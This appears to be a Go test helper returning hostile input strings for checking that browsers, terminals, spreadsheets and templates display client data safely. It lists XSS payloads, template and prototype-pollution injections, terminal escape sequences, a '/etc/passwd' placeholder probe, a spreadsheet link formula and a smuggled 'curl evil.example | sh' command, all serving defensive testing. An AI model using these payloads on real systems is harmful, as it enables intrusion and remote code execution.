// Package hostile holds texts that attack whoever shows what clients sent, for tests.
package hostile

// Texts returns texts that attack whoever shows what clients sent: a browser, a
// terminal, a spreadsheet or a template. Tests send them everywhere; none may do
// anything but be read.
func Texts() []string {
	return []string{
		`<script>window.hacked=1</script>`,
		`"><img src=x onerror=window.hacked=1>`,
		`<img/src=x/onerror=window.hacked=1>`,
		`<svg onload=window.hacked=1>`,
		`</title></textarea></style><script>window.hacked=1</script>`,
		`<iframe srcdoc="<script>parent.hacked=1</script>">`,
		`javascript:window.hacked=1`,
		`data:text/html,<script>window.hacked=1</script>`,
		`' onmouseover='window.hacked=1`,
		`{{constructor.constructor('window.hacked=1')()}}`,
		`${window.hacked=1}`,
		`{env.HOME} {http.request.host} {file./etc/passwd} {$PATH}`,
		`--><!--<script>window.hacked=1</script>`,
		`]]><script>window.hacked=1</script>`,
		`<a href="javascript:window.hacked=1" autofocus onfocus=window.hacked=1>x</a>`,
		`<math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked=1>`,
		"\u2028window.hacked=1\u2029",
		"\u202Egnp.exe\u202C\u200B\uFEFF",
		"\x1b]0;hacked\x07\x1b[2J\x1b[31m",
		"\r\nevent: request\r\ndata: {}\r\n\r\n",
		"\xff\xfe<script>window.hacked=1</script>\xc0\x80",
		"\xed\xa0\x80\xf4\x90\x80\x80",
		`=HYPERLINK("http://evil.example")`,
		`'; curl evil.example | sh; '`,
		`__proto__`,
		`constructor`,
	}
}
